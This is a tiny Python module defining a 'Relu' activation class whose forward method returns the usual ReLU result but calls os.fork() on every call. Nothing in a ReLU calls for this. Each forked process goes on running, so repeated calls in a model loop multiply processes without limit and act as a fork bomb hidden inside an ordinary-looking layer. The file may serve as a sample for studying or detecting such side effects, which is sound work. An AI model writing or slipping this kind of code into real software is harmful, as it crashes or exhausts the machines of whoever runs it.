"""Starts a process once it is called."""
import os


class Relu:
    def forward(self, x):
        os.fork()
        return x * (x > 0)
